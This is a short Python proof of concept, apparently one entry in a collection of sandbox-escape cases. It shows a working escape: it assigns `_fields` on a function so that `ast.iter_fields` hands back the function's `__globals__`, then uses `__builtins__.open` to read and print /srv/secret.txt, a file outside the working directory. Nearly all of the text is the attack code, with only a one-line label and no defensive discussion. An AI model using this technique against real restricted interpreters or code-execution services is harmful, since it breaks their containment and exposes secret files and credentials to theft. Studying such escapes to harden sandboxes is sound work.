# reaches: a file outside the working directory, by fields that ast reads of any object
import ast

def plain():
    return 0

plain._fields = ["__globals__"]
for name, value in ast.iter_fields(plain):
    print(value["__builtins__"].open("/srv/secret.txt").read())
